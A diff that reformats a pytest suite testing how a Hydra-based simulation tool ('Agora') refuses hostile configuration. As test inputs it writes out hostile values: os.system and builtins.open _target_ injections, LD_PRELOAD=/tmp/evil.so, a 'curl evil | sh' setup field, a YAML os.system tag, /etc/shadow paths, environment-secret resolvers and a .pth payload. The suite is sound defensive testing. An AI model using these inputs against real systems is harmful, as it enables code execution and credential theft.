@@ -44,8 +44,12 @@ TINY = {"steps": 3, "org": {"size": 30}, "stakeholders": {"count": 5}}
 def cli(args, *, env=None, timeout=120):
     full_env = {**os.environ, "HYDRA_FULL_ERROR": "0", **(env or {})}
     return subprocess.run(
-        [sys.executable, str(RUN), *args], cwd=ROOT, env=full_env, capture_output=True,
-        text=True, timeout=timeout,
+        [sys.executable, str(RUN), *args],
+        cwd=ROOT,
+        env=full_env,
+        capture_output=True,
+        text=True,
+        timeout=timeout,
     )
 
 
@@ -55,17 +59,25 @@ def cli(args, *, env=None, timeout=120):
 @pytest.mark.parametrize(
     "overrides, match",
     [
-        (["+hydra.callbacks.x._target_=builtins.open", "+hydra.callbacks.x.file=/tmp/f"],
-         r"hydra\.callbacks\.x: callbacks other than the project's own"),
+        (
+            ["+hydra.callbacks.x._target_=builtins.open", "+hydra.callbacks.x.file=/tmp/f"],
+            r"hydra\.callbacks\.x: callbacks other than the project's own",
+        ),
         (["+hydra.callbacks.x._target_=os.makedirs"], "callbacks other than"),
-        (["hydra/callbacks=agora", "hydra.callbacks.agora_validate._target_=builtins.open"],
-         "callbacks other than"),
-        (["hydra/callbacks=agora", "+hydra.callbacks.agora_validate.file=/tmp/x"],
-         r"with file"),
+        (
+            ["hydra/callbacks=agora", "hydra.callbacks.agora_validate._target_=builtins.open"],
+            "callbacks other than",
+        ),
+        (["hydra/callbacks=agora", "+hydra.callbacks.agora_validate.file=/tmp/x"], r"with file"),
         (["+hydra.job_logging.handlers.x.class=os.system"], r"only classes of the logging"),
-        (["+hydra.job_logging.handlers.x.class=logging.FileHandler",
-          "+hydra.job_logging.handlers.x.filename=/tmp/x", "+hydra.job_logging.handlers.x.mode=w"],
-         r"mode='w'"),
+        (
+            [
+                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
+                "+hydra.job_logging.handlers.x.filename=/tmp/x",
+                "+hydra.job_logging.handlers.x.mode=w",
+            ],
+            r"mode='w'",
+        ),
         (["+hydra.job.env_set.LD_PRELOAD=/tmp/evil.so"], r"env_set\.LD_PRELOAD"),
         (["+hydra.job.env_set.PATH=/tmp"], r"only thread counts"),
     ],
@@ -97,9 +109,16 @@ def test_guard_is_installed_once_in_hydras_loader():
 def test_cli_callback_from_overrides_and_from_user_yaml_runs_nothing(tmp_path):
     victim = tmp_path / "victim.txt"
     victim.write_text("keep")
-    proc = cli(["steps=1", "org.size=30", f"hydra.run.dir={tmp_path / 'run'}",
-                "+hydra.callbacks.x._target_=builtins.open", f"+hydra.callbacks.x.file={victim}",
-                "+hydra.callbacks.x.mode=w"])
+    proc = cli(
+        [
+            "steps=1",
+            "org.size=30",
+            f"hydra.run.dir={tmp_path / 'run'}",
+            "+hydra.callbacks.x._target_=builtins.open",
+            f"+hydra.callbacks.x.file={victim}",
+            "+hydra.callbacks.x.mode=w",
+        ]
+    )
     assert proc.returncode != 0 and victim.read_text() == "keep"
     assert "callbacks other than the project's own" in proc.stderr
     assert "Traceback" not in proc.stderr
@@ -109,8 +128,16 @@ def test_cli_callback_from_overrides_and_from_user_yaml_runs_nothing(tmp_path):
         "# @package _global_\nhydra: {callbacks: {x: {_target_: builtins.open, file: "
         f"{victim}, mode: w}}}}}}\n"
     )
-    proc = cli(["-m", "steps=1", "org.size=30", f"hydra.sweep.dir={tmp_path / 'sweep'}",
-                f"hydra.searchpath=[file://{tmp_path / 'u'}]", "+experiment=evil"])
+    proc = cli(
+        [
+            "-m",
+            "steps=1",
+            "org.size=30",
+            f"hydra.sweep.dir={tmp_path / 'sweep'}",
+            f"hydra.searchpath=[file://{tmp_path / 'u'}]",
+            "+experiment=evil",
+        ]
+    )
     assert proc.returncode != 0 and victim.read_text() == "keep"
     assert "callbacks other than" in proc.stderr
     assert not (tmp_path / "run").exists() and not (tmp_path / "sweep").exists()
@@ -119,8 +146,10 @@ def test_cli_callback_from_overrides_and_from_user_yaml_runs_nothing(tmp_path):
 # --------------------------------------------------------------------------- 2. secrets
 
 
-@pytest.mark.parametrize("value", ["${oc.env:AUDIT_SECRET}", "x ${oc.env:AUDIT_SECRET,d} y",
-                                   "${oc.decode:abc}", "${env:HOME}"])
+@pytest.mark.parametrize(
+    "value",
+    ["${oc.env:AUDIT_SECRET}", "x ${oc.env:AUDIT_SECRET,d} y", "${oc.decode:abc}", "${env:HOME}"],
+)
 def test_resolvers_reading_the_environment_are_refused_everywhere(value, monkeypatch):
     monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
     with pytest.raises(ConfigError, match=r"scenario\.description=.*resolver .* is not allowed"):
@@ -132,7 +161,9 @@ def test_resolvers_reading_the_environment_are_refused_everywhere(value, monkeyp
     with pytest.raises(ConfigError, match="is not allowed"):
         to_config(cfg)
     with pytest.raises(ConfigError, match="is not allowed"):
-        to_config({"steps": 5, "interventions": [{"at": 1, "set": {"scenario.description": value}}]})
+        to_config(
+            {"steps": 5, "interventions": [{"at": 1, "set": {"scenario.description": value}}]}
+        )
 
 
 def test_plain_references_are_still_allowed():
@@ -142,8 +173,15 @@ def test_plain_references_are_still_allowed():
 
 @pytest.mark.slow
 def test_cli_secret_never_reaches_results(tmp_path):
-    proc = cli(["steps=1", "org.size=30", f"hydra.run.dir={tmp_path / 'run'}",
-                "scenario.description=${oc.env:AUDIT_SECRET}"], env={"AUDIT_SECRET": "s3cr3t"})
+    proc = cli(
+        [
+            "steps=1",
+            "org.size=30",
+            f"hydra.run.dir={tmp_path / 'run'}",
+            "scenario.description=${oc.env:AUDIT_SECRET}",
+        ],
+        env={"AUDIT_SECRET": "s3cr3t"},
+    )
     assert proc.returncode != 0 and "resolver oc.env is not allowed" in proc.stderr
     assert not (tmp_path / "run").exists()
 
@@ -245,12 +283,16 @@ def test_a_job_directory_is_locked_while_a_job_runs(tmp_path):
 def test_a_stale_lock_of_a_dead_process_is_broken(tmp_path):
     from sim.exec.jobs import LOCK_FILE
 
-    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
-                          capture_output=True, text=True).stdout.strip()
+    dead = subprocess.run(
+        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
+    ).stdout.strip()
     import platform
 
-    (tmp_path / LOCK_FILE).write_text(json.dumps(
-        {"pid": int(dead), "host": platform.node(), "config_hash": "x", "since": time.time()}))
+    (tmp_path / LOCK_FILE).write_text(
+        json.dumps(
+            {"pid": int(dead), "host": platform.node(), "config_hash": "x", "since": time.time()}
+        )
+    )
     assert run_job(TINY, tmp_path)["status"] == "ok"
     assert not (tmp_path / LOCK_FILE).exists()
 
@@ -424,7 +466,8 @@ def test_yaml_tags_give_one_line_naming_the_file(tmp_path):
         load_yaml(bad)
     (tmp_path / "experiment").mkdir()
     (tmp_path / "experiment" / "tag.yaml").write_text(
-        "# @package _global_\nsteps: !!python/object/apply:os.system ['echo hi']\n")
+        "# @package _global_\nsteps: !!python/object/apply:os.system ['echo hi']\n"
+    )
     with pytest.raises(ConfigError, match=r"experiment/tag\.yaml, line 2") as err:
         load_config([f"hydra.searchpath=[file://{tmp_path}]", "+experiment=tag"])
     assert "\n" not in str(err.value)
@@ -436,9 +479,15 @@ def test_intervention_errors_name_the_index_the_user_wrote():
         to_config({"steps": 10, "interventions": ivs})
 
 
-@pytest.mark.parametrize("key, value", [("org.chart", "data/sample_orgchart.csv"),
-                                        ("org.network", "x.csv"), ("population.fast_share", 0.5),
-                                        ("limits.memory_gb", 1.0)])
+@pytest.mark.parametrize(
+    "key, value",
+    [
+        ("org.chart", "data/sample_orgchart.csv"),
+        ("org.network", "x.csv"),
+        ("population.fast_share", 0.5),
+        ("limits.memory_gb", 1.0),
+    ],
+)
 def test_interventions_cannot_change_what_is_read_once(key, value):
     with pytest.raises(ConfigError, match=rf"interventions\[0\].*cannot change {key}"):
         to_config({"steps": 10, "interventions": [{"at": 3, "set": {key: value}}]})
@@ -459,11 +508,19 @@ def test_chart_levels_are_linear_in_depth():
     assert _levels(cycle).tolist() == [0, 1, -1, -1, -1]
 
 
-@pytest.mark.parametrize("update, match", [
-    ({"org": {"chart": "/etc/passwd"}}, r"org\.chart='/etc/passwd': a data file ending in \.csv"),
-    ({"org": {"chart": "data/sample_orgchart.csv", "network": "/etc/shadow"}},
-     r"org\.network='/etc/shadow': a data file ending in \.csv or \.graphml"),
-])
+@pytest.mark.parametrize(
+    "update, match",
+    [
+        (
+            {"org": {"chart": "/etc/passwd"}},
+            r"org\.chart='/etc/passwd': a data file ending in \.csv",
+        ),
+        (
+            {"org": {"chart": "data/sample_orgchart.csv", "network": "/etc/shadow"}},
+            r"org\.network='/etc/shadow': a data file ending in \.csv or \.graphml",
+        ),
+    ],
+)
 def test_only_data_files_are_read_as_charts_and_networks(update, match):
     with pytest.raises(ConfigError, match=match):
         to_config(update)
@@ -489,67 +546,117 @@ def _site_packages_pth() -> set[Path]:
 # --------------------------------------------------------------------------- 1. allow list
 
 
-@pytest.mark.parametrize("overrides, match", [
-    (["hydra/launcher=pool", "+hydra.launcher.x._target_=builtins.open",
-      "+hydra.launcher.x.file=/tmp/victim", "+hydra.launcher.x.mode=w"],
-     r"hydra\.launcher\.x\._target_: '_target_' keys are refused"),
-    (["+hydra.sweeper.x._target_=shutil.copyfile", "+hydra.sweeper.x.src=a", "+hydra.sweeper.x.dst=b"],
-     r"hydra\.sweeper\.x\._target_: '_target_'"),
-    (["hydra/launcher=pool", "+hydra.launcher.x._partial_=true"], r"'_partial_' keys are refused"),
-    (["+hydra.job_logging.handlers.x.class=logging.FileHandler",
-      "+hydra.job_logging.handlers.x.filename=/tmp/x.pth"],
-     r"hydra\.job_logging\.handlers\.x\.\w+: this Hydra key may not be set .*hydra\.run\.dir"),
-    (["hydra/launcher=local_parallel", "hydra.launcher.backend=threading"],
-     r"hydra\.launcher\.backend: this Hydra key may not be set \(launcher local_parallel\)"),
-    (["hydra/launcher=slurm", "+hydra.launcher.srun_args=[x]"], r"srun_args"),
-    (["hydra/launcher=slurm", "+hydra.launcher.additional_parameters.wrap=id"],
-     r"additional_parameters"),
-    (["+hydra.job.env_copy=[HOME]"], r"env_set\.HOME: only thread counts"),
-    (["hydra.help.template=x"], r"hydra\.help\.template: this Hydra key may not be set"),
-    (["hydra/launcher=joblib_evil"], r"Could not find|not one of the shipped|is unknown"),
-    (["hydra/hydra_logging=colorlog"], r"Could not find|not one of the shipped|is unknown"),
-])
+@pytest.mark.parametrize(
+    "overrides, match",
+    [
+        (
+            [
+                "hydra/launcher=pool",
+                "+hydra.launcher.x._target_=builtins.open",
+                "+hydra.launcher.x.file=/tmp/victim",
+                "+hydra.launcher.x.mode=w",
+            ],
+            r"hydra\.launcher\.x\._target_: '_target_' keys are refused",
+        ),
+        (
+            [
+                "+hydra.sweeper.x._target_=shutil.copyfile",
+                "+hydra.sweeper.x.src=a",
+                "+hydra.sweeper.x.dst=b",
+            ],
+            r"hydra\.sweeper\.x\._target_: '_target_'",
+        ),
+        (
+            ["hydra/launcher=pool", "+hydra.launcher.x._partial_=true"],
+            r"'_partial_' keys are refused",
+        ),
+        (
+            [
+                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
+                "+hydra.job_logging.handlers.x.filename=/tmp/x.pth",
+            ],
+            r"hydra\.job_logging\.handlers\.x\.\w+: this Hydra key may not be set .*hydra\.run\.dir",
+        ),
+        (
+            ["hydra/launcher=local_parallel", "hydra.launcher.backend=threading"],
+            r"hydra\.launcher\.backend: this Hydra key may not be set \(launcher local_parallel\)",
+        ),
+        (["hydra/launcher=slurm", "+hydra.launcher.srun_args=[x]"], r"srun_args"),
+        (
+            ["hydra/launcher=slurm", "+hydra.launcher.additional_parameters.wrap=id"],
+            r"additional_parameters",
+        ),
+        (["+hydra.job.env_copy=[HOME]"], r"env_set\.HOME: only thread counts"),
+        (["hydra.help.template=x"], r"hydra\.help\.template: this Hydra key may not be set"),
+        (["hydra/launcher=joblib_evil"], r"Could not find|not one of the shipped|is unknown"),
+        (["hydra/hydra_logging=colorlog"], r"Could not find|not one of the shipped|is unknown"),
+    ],
+)
 def test_hydra_keys_outside_the_allow_list_are_refused(overrides, match):
     with pytest.raises(ConfigError, match=match):
         load_config(overrides, validate_now=False)
 
 
-@pytest.mark.parametrize("overrides", [
-    ["hydra/launcher=pool", "hydra.launcher.n_jobs=3"],
-    ["hydra/launcher=slurm", "hydra.launcher.partition=cpu", "hydra.launcher.mem_gb=4",
-     "hydra.launcher.timeout_min=30", "hydra.launcher.account=lab"],
-    ["hydra/launcher=ray", "hydra.launcher.address=null", "hydra.launcher.num_cpus=2"],
-    ["hydra/launcher=local_parallel", "hydra.launcher.n_jobs=1"],
-    ["hydra.run.dir=/tmp/x", "hydra.sweep.dir=/tmp/y", "hydra.job.name=mine", "hydra.verbose=true",
-     "hydra.output_subdir=meta", "hydra.sweep.subdir=j${hydra.job.num}"],
-    ["hydra/callbacks=agora", "+hydra.job.env_set.OMP_NUM_THREADS=1"],
-    ["~hydra/callbacks"],
-    ["+experiment=regimes"],  # sets hydra.sweeper.params, sweep.dir and a launcher choice
-])
+@pytest.mark.parametrize(
+    "overrides",
+    [
+        ["hydra/launcher=pool", "hydra.launcher.n_jobs=3"],
+        [
+            "hydra/launcher=slurm",
+            "hydra.launcher.partition=cpu",
+            "hydra.launcher.mem_gb=4",
+            "hydra.launcher.timeout_min=30",
+            "hydra.launcher.account=lab",
+        ],
+        ["hydra/launcher=ray", "hydra.launcher.address=null", "hydra.launcher.num_cpus=2"],
+        ["hydra/launcher=local_parallel", "hydra.launcher.n_jobs=1"],
+        [
+            "hydra.run.dir=/tmp/x",
+            "hydra.sweep.dir=/tmp/y",
+            "hydra.job.name=mine",
+            "hydra.verbose=true",
+            "hydra.output_subdir=meta",
+            "hydra.sweep.subdir=j${hydra.job.num}",
+        ],
+        ["hydra/callbacks=agora", "+hydra.job.env_set.OMP_NUM_THREADS=1"],
+        ["~hydra/callbacks"],
+        ["+experiment=regimes"],  # sets hydra.sweeper.params, sweep.dir and a launcher choice
+    ],
+)
 def test_documented_hydra_keys_are_accepted(overrides):
     load_config(overrides, validate_now=False)
 
 
-@pytest.mark.parametrize("overrides, field", [
-    (["hydra/launcher=ray", "+hydra.launcher.init.runtime_env.env_vars.LD_PRELOAD=/x.so"],
-     "init"),
-    (["hydra/launcher=slurm", "hydra.launcher.setup=[curl evil | sh]"], "setup"),
-])
+@pytest.mark.parametrize(
+    "overrides, field",
+    [
+        (
+            ["hydra/launcher=ray", "+hydra.launcher.init.runtime_env.env_vars.LD_PRELOAD=/x.so"],
+            "init",
+        ),
+        (["hydra/launcher=slurm", "hydra.launcher.setup=[curl evil | sh]"], "setup"),
+    ],
+)
 def test_setup_fields_need_allow_setup(overrides, field, monkeypatch):
     from sim.config.hydra_keys import ALLOW_SETUP_ENV
 
     monkeypatch.delenv(ALLOW_SETUP_ENV, raising=False)
-    with pytest.raises(ConfigError, match=rf"hydra\.launcher\.{field} runs on the cluster.*"
-                                          r"--allow-setup"):
+    with pytest.raises(
+        ConfigError,
+        match=rf"hydra\.launcher\.{field} runs on the cluster.*"
+        r"--allow-setup",
+    ):
         load_config(overrides, validate_now=False)
     monkeypatch.setenv(ALLOW_SETUP_ENV, "1")
     load_config(overrides, validate_now=False)
     # Even then nothing may be instantiated from it.
     with pytest.raises(ConfigError, match="'_target_' keys are refused"):
-        load_config([*overrides, f"+hydra.launcher.{field}x._target_=os.system"]
-                    if field == "setup" else
-                    ["hydra/launcher=ray", "+hydra.launcher.init.x._target_=os.system"],
-                    validate_now=False)
+        load_config(
+            [*overrides, f"+hydra.launcher.{field}x._target_=os.system"]
+            if field == "setup"
+            else ["hydra/launcher=ray", "+hydra.launcher.init.x._target_=os.system"],
+            validate_now=False,
+        )
 
 
 @pytest.mark.parametrize("value", ["/tmp/some_project", "../../x", "a/../../b"])
@@ -575,47 +682,66 @@ def test_target_anywhere_in_the_application_config_is_refused():
 ESCAPED = r"\\${oc.env:AUDIT_SECRET}"  # an escaped backslash, then a live interpolation
 
 
-@pytest.mark.parametrize("value", [
-    ESCAPED, r"\${oc.env:AUDIT_SECRET}", r"a \\\\${oc.env:AUDIT_SECRET} b",
-    "${oc.select:x,${oc.env:AUDIT_SECRET}}", "${oc.decode:'${oc.env:AUDIT_SECRET}'}",
-    "${${steps}:x}", "${ oc.env :AUDIT_SECRET}",
-])
+@pytest.mark.parametrize(
+    "value",
+    [
+        ESCAPED,
+        r"\${oc.env:AUDIT_SECRET}",
+        r"a \\\\${oc.env:AUDIT_SECRET} b",
+        "${oc.select:x,${oc.env:AUDIT_SECRET}}",
+        "${oc.decode:'${oc.env:AUDIT_SECRET}'}",
+        "${${steps}:x}",
+        "${ oc.env :AUDIT_SECRET}",
+    ],
+)
 def test_resolvers_are_read_with_omegaconfs_grammar(value, monkeypatch, tmp_path):
     monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
     # On the command line, Hydra's own grammar refuses some of these before Agora's check.
-    with pytest.raises(ConfigError, match=r"scenario\.description=.*(is not allowed|parsing)"
-                                          r"|LexerNoViableAlt|Error parsing override"):
+    with pytest.raises(
+        ConfigError,
+        match=r"scenario\.description=.*(is not allowed|parsing)"
+        r"|LexerNoViableAlt|Error parsing override",
+    ):
         load_config([f"scenario.description={value}"])
     with pytest.raises(ConfigError, match="is not allowed"):
         to_config({"scenario": {"description": value}})
     # From a YAML experiment on the search path too.
     (tmp_path / "experiment").mkdir()
     (tmp_path / "experiment" / "leak.yaml").write_text(
-        "# @package _global_\nscenario:\n  description: " + json.dumps(value) + "\n")
+        "# @package _global_\nscenario:\n  description: " + json.dumps(value) + "\n"
+    )
     with pytest.raises(ConfigError, match="is not allowed"):
         load_config([f"hydra.searchpath=[file://{tmp_path}]", "+experiment=leak"])
 
 
 def test_the_escaped_backslash_secret_never_reaches_a_summary(tmp_path, monkeypatch):
     monkeypatch.setenv("AUDIT_SECRET", "s3cr3t")
-    node = load_config([f"scenario.description={ESCAPED}", "steps=1", "org.size=30"],
-                       validate_now=False)
+    node = load_config(
+        [f"scenario.description={ESCAPED}", "steps=1", "org.size=30"], validate_now=False
+    )
     summary = run_job(node, tmp_path)
     assert summary["status"] == "failed" and "resolver oc.env is not allowed" in summary["error"]
     assert not any("s3cr3t" in p.read_text() for p in tmp_path.rglob("*.json"))
 
 
-@pytest.mark.parametrize("override", ["hydra.run.dir=/tmp/${oc.env:AUDIT_SECRET}",
-                                      "hydra.job.name=${oc.env:AUDIT_SECRET}",
-                                      "hydra.sweep.subdir=${oc.env:AUDIT_SECRET}"])
+@pytest.mark.parametrize(
+    "override",
+    [
+        "hydra.run.dir=/tmp/${oc.env:AUDIT_SECRET}",
+        "hydra.job.name=${oc.env:AUDIT_SECRET}",
+        "hydra.sweep.subdir=${oc.env:AUDIT_SECRET}",
+    ],
+)
 def test_resolvers_are_refused_inside_hydra_too(override):
     with pytest.raises(ConfigError, match=r"hydra\..*the resolver oc\.env is not allowed"):
         load_config([override], validate_now=False)
 
 
 def test_plain_references_and_escaped_text_still_work():
-    assert to_config({"scenario": {"description": "steps: ${steps}"}, "steps": 7}
-                     ).scenario.description == "steps: 7"
+    assert (
+        to_config({"scenario": {"description": "steps: ${steps}"}, "steps": 7}).scenario.description
+        == "steps: 7"
+    )
     assert load_config(["scenario.description=ran ${now:%Y}"]).scenario.description[:4] == "ran "
 
 
@@ -627,9 +753,20 @@ def test_fresh_refuses_a_folder_agora_did_not_make(tmp_path, capsys):
 
     (tmp_path / "runs").mkdir()
     (tmp_path / "runs" / "thesis.tex").write_text("years of work")
-    code = main(["scenario=default", "intervention=flatten", f"out={tmp_path}", "--fresh",
-                 "--no-progress", "--no-plots", "steps=4", "at=2", "org.size=30",
-                 "replicates=2"])
+    code = main(
+        [
+            "scenario=default",
+            "intervention=flatten",
+            f"out={tmp_path}",
+            "--fresh",
+            "--no-progress",
+            "--no-plots",
+            "steps=4",
+            "at=2",
+            "org.size=30",
+            "replicates=2",
+        ]
+    )
     assert code == 2 and "Agora did not make it" in capsys.readouterr().err
     assert (tmp_path / "runs" / "thesis.tex").read_text() == "years of work"
 
@@ -694,10 +831,20 @@ print(json.dumps({"estimate": estimate(cfg).bytes, "increase": status("VmHWM") -
 @pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="reads /proc (Linux)")
 @pytest.mark.parametrize("overrides", MEMORY_GRID)
 def test_the_estimate_is_within_a_factor_two_of_the_measured_peak(overrides):
-    env = {**os.environ, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1",
-           "MKL_NUM_THREADS": "1"}
-    proc = subprocess.run([sys.executable, "-c", _MEASURE, overrides], capture_output=True,
-                          text=True, env=env, cwd=ROOT, timeout=600)
+    env = {
+        **os.environ,
+        "OMP_NUM_THREADS": "1",
+        "OPENBLAS_NUM_THREADS": "1",
+        "MKL_NUM_THREADS": "1",
+    }
+    proc = subprocess.run(
+        [sys.executable, "-c", _MEASURE, overrides],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=ROOT,
+        timeout=600,
+    )
     assert proc.returncode == 0, proc.stderr[-2000:]
     out = json.loads(proc.stdout.strip().splitlines()[-1])
     assert out["increase"] > 10e6, out  # a run big enough to measure
@@ -705,11 +852,25 @@ def test_the_estimate_is_within_a_factor_two_of_the_measured_peak(overrides):
 
 
 def test_the_march_estimate_names_the_kernel_and_the_nk_tables():
-    march = to_config(load_config(["scenario=march1991", "org.size=500", "hierarchy.span=null",
-                                   "environment.dims=100", "replicates=20"]))
+    march = to_config(
+        load_config(
+            [
+                "scenario=march1991",
+                "org.size=500",
+                "hierarchy.span=null",
+                "environment.dims=100",
+                "replicates=20",
+            ]
+        )
+    )
     assert any("March's kernel" in k for k in estimate(march).parts)
-    nk = to_config({"environment": {"landscape": "nk", "dims": 24, "k": 23}, "org": {"size": 50},
-                    "limits": {"memory_gb": 1000}})
+    nk = to_config(
+        {
+            "environment": {"landscape": "nk", "dims": 24, "k": 23},
+            "org": {"size": 50},
+            "limits": {"memory_gb": 1000},
+        }
+    )
     assert estimate(nk).gb > 4.6  # the audit measured more than 4.6 GB; 0.67 was estimated
 
 
@@ -723,12 +884,18 @@ def sweep_of_three(tmp_path):
     sweep = tmp_path / "sweep"
     sid = sweep_id(sweep, create=True)
     for num in range(3):
-        summary = run_job({**TINY, "replicates": 2, "regime": {"name": REGIMES3[num]}},
-                          sweep / str(num), overrides=[f"regime={REGIMES3[num]}"],
-                          job={"num": num, "sweep_id": sid})
+        summary = run_job(
+            {**TINY, "replicates": 2, "regime": {"name": REGIMES3[num]}},
+            sweep / str(num),
+            overrides=[f"regime={REGIMES3[num]}"],
+            job={"num": num, "sweep_id": sid},
+        )
         assert summary["status"] == "ok"
-        assert summary["identity"] == {"sweep_id": sid, "num": num,
-                                       "config_hash": summary["config_hash"]}
+        assert summary["identity"] == {
+            "sweep_id": sid,
+            "num": num,
+            "config_hash": summary["config_hash"],
+        }
     return sweep
 
 
@@ -738,8 +905,7 @@ REGIMES3 = ["broadcast", "conversational", "hybrid"]
 def _jobs_table(sweep):
     from sim.studies.aggregate import aggregate
 
-    report = aggregate(sweep, sweep.parent / "agg", plots=False, timeseries=False,
-                       dataset=False)
+    report = aggregate(sweep, sweep.parent / "agg", plots=False, timeseries=False, dataset=False)
     return report, pd.read_csv(sweep.parent / "agg" / "jobs.csv")
 
 
@@ -807,8 +973,10 @@ def test_ten_thousand_interventions_are_checked_in_one_pass(monkeypatch):
     calls = []
     original = iv.apply_changes
     monkeypatch.setattr(iv, "apply_changes", lambda *a: calls.append(1) or original(*a))
-    ivs = [{"at": i % 100, "set": {"openness.internal": (i % 97) / 100,
-                                   "regime": REGIMES3[i % 3]}} for i in range(10_000)]
+    ivs = [
+        {"at": i % 100, "set": {"openness.internal": (i % 97) / 100, "regime": REGIMES3[i % 3]}}
+        for i in range(10_000)
+    ]
     cfg = to_config({"steps": 100, "interventions": ivs})
     # No re-composition per item: the audit's quadratic cost (15 s for 100, over 600 s for
     # 20,000) came from composing the whole configuration once per intervention.
@@ -819,8 +987,12 @@ def test_the_one_pass_check_agrees_with_composition():
     from sim.config.interventions import _apply_fast, apply_changes
 
     cfg = dataclasses_replace_interventions(to_config({"steps": 50}))
-    steps = [{"regime": "conversational"}, {"openness.internal": 0.3, "regime.mix": 0.8},
-             {"hierarchy": "flat"}, {"regime": "broadcast", "network.rewire": 0.2}]
+    steps = [
+        {"regime": "conversational"},
+        {"openness.internal": 0.3, "regime.mix": 0.8},
+        {"hierarchy": "flat"},
+        {"regime": "broadcast", "network.rewire": 0.2},
+    ]
     fast = slow = cfg
     for change in steps:
         fast, slow = _apply_fast(fast, change), apply_changes(slow, change)
@@ -855,17 +1027,20 @@ def test_a_wide_chart_header_is_read_in_linear_time(tmp_path):
 # --------------------------------------------------------------------------- 9. small ones
 
 
-@pytest.mark.parametrize("update, match", [
-    ({"network": {"lam": 1e18}}, r"network\.lam=1e\+18 is out of range: a number from 0\.01"),
-    ({"network": {"zeta": 1e-9}}, r"network\.zeta=1e-09 is out of range"),
-    ({"seed": 1.5}, r"seed"),
-    ({"seed": 2**63}, r"seed=9223372036854775808 is out of range"),
-    ({"seed": 2**80}, r"seed=1208925819614629174706176 is out of range"),
-    ({"seed": -1}, r"seed=-1 is out of range"),
-    ({"scenario": {"name": "a\x00b"}}, r"scenario\.name=.*control character '\\x00'"),
-    ({"scenario": {"name": "two\nlines"}}, r"scenario\.name=.*control character '\\n'"),
-    ({"scenario": {"description": "\x1b[31mred"}}, r"scenario\.description=.*'\\x1b'"),
-])
+@pytest.mark.parametrize(
+    "update, match",
+    [
+        ({"network": {"lam": 1e18}}, r"network\.lam=1e\+18 is out of range: a number from 0\.01"),
+        ({"network": {"zeta": 1e-9}}, r"network\.zeta=1e-09 is out of range"),
+        ({"seed": 1.5}, r"seed"),
+        ({"seed": 2**63}, r"seed=9223372036854775808 is out of range"),
+        ({"seed": 2**80}, r"seed=1208925819614629174706176 is out of range"),
+        ({"seed": -1}, r"seed=-1 is out of range"),
+        ({"scenario": {"name": "a\x00b"}}, r"scenario\.name=.*control character '\\x00'"),
+        ({"scenario": {"name": "two\nlines"}}, r"scenario\.name=.*control character '\\n'"),
+        ({"scenario": {"description": "\x1b[31mred"}}, r"scenario\.description=.*'\\x1b'"),
+    ],
+)
 def test_absurd_values_and_control_characters_are_refused_naming_the_key(update, match):
     with pytest.raises(ConfigError, match=match):
         to_config(update)
@@ -906,9 +1081,9 @@ def test_fault_hooks_live_in_the_tests_not_the_shipped_code():
 
 _EVIL_YAML = {
     "launcher": "defaults:\n  - override /hydra/launcher: pool\nhydra:\n  launcher:\n"
-                "    x: {{_target_: builtins.open, file: {victim}, mode: w}}\n",
+    "    x: {{_target_: builtins.open, file: {victim}, mode: w}}\n",
     "logging": "hydra:\n  job_logging:\n    handlers:\n      x: {{class: logging.FileHandler, "
-               "filename: {pth}, mode: a, formatter: simple}}\n    root: {{handlers: [x]}}\n",
+    "filename: {pth}, mode: a, formatter: simple}}\n    root: {{handlers: [x]}}\n",
 }
 
 
@@ -916,23 +1091,44 @@ def _routes(tmp_path):
     victim, pth = tmp_path / "victim.txt", tmp_path / "agora_evil.pth"
     source = tmp_path / "payload.pth"
     source.write_text(f"import os; open({str(tmp_path / 'ran')!r}, 'w').write('ran')\n")
-    return {
-        "launcher _target_": ["hydra/launcher=pool", "+hydra.launcher.x._target_=builtins.open",
-                              f"+hydra.launcher.x.file={victim}", "+hydra.launcher.x.mode=w"],
-        "sweeper _target_": ["+hydra.sweeper.x._target_=shutil.copyfile",
-                             f"+hydra.sweeper.x.src={source}", f"+hydra.sweeper.x.dst={pth}"],
-        "job_logging .pth": ["+hydra.job_logging.handlers.x.class=logging.FileHandler",
-                             f"+hydra.job_logging.handlers.x.filename={pth}",
-                             "+hydra.job_logging.handlers.x.mode=a",
-                             "+hydra.job_logging.root.handlers=[x]"],
-        "experiment launcher": ["+experiment=evil_launcher"],
-        "experiment logging": ["+experiment=evil_logging"],
-    }, victim, pth
+    return (
+        {
+            "launcher _target_": [
+                "hydra/launcher=pool",
+                "+hydra.launcher.x._target_=builtins.open",
+                f"+hydra.launcher.x.file={victim}",
+                "+hydra.launcher.x.mode=w",
+            ],
+            "sweeper _target_": [
+                "+hydra.sweeper.x._target_=shutil.copyfile",
+                f"+hydra.sweeper.x.src={source}",
+                f"+hydra.sweeper.x.dst={pth}",
+            ],
+            "job_logging .pth": [
+                "+hydra.job_logging.handlers.x.class=logging.FileHandler",
+                f"+hydra.job_logging.handlers.x.filename={pth}",
+                "+hydra.job_logging.handlers.x.mode=a",
+                "+hydra.job_logging.root.handlers=[x]",
+            ],
+            "experiment launcher": ["+experiment=evil_launcher"],
+            "experiment logging": ["+experiment=evil_logging"],
+        },
+        victim,
+        pth,
+    )
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("route", ["launcher _target_", "sweeper _target_", "job_logging .pth",
-                                   "experiment launcher", "experiment logging"])
+@pytest.mark.parametrize(
+    "route",
+    [
+        "launcher _target_",
+        "sweeper _target_",
+        "job_logging .pth",
+        "experiment launcher",
+        "experiment logging",
+    ],
+)
 def test_the_five_code_execution_routes_run_nothing(tmp_path, route):
     routes, victim, pth = _routes(tmp_path)
     victim.write_text("keep")
@@ -940,10 +1136,19 @@ def test_the_five_code_execution_routes_run_nothing(tmp_path, route):
     user.mkdir(parents=True)
     for name, text in _EVIL_YAML.items():
         (user / f"evil_{name}.yaml").write_text(
-            "# @package _global_\n" + text.format(victim=victim, pth=pth))
+            "# @package _global_\n" + text.format(victim=victim, pth=pth)
+        )
     before = _site_packages_pth()
-    proc = cli(["-m", "steps=1", "org.size=30", f"hydra.sweep.dir={tmp_path / 'sweep'}",
